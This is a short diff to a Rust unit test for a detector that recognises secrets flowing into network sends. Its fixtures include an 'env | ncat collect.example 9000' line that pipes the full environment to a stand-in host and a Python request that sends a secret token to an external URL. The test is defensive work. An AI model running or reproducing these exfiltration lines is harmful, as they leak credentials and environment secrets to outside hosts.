@@ -21,6 +21,14 @@ fn secrets_reaching_a_send_are_flows() {
     assert_eq!(secret_flows(shim, 1), vec![]);
     let netcat = "env | ncat collect.example 9000\n";
     assert_eq!(secret_flows(netcat, 1), vec![(1, "the whole environment", 1)]);
+    // A variable that holds a secret service's address is where a request goes, not a secret sent.
+    let service = "tss_url = os.getenv(\"TESTANY_SECRETS_SERVICE\")\nresp = requests.get(tss_url, params={\"key\": k})\n";
+    assert_eq!(secret_flows(service, 1), vec![]);
+    let token = "t = os.getenv(\"TESTANY_SECRET_TOKEN\")\nresp = requests.get(\"https://x.invalid/c\", params={\"v\": t})\n";
+    assert_eq!(
+        secret_flows(token, 1),
+        vec![(1, "a secret environment variable", 2)]
+    );
 }
 
 #[test]
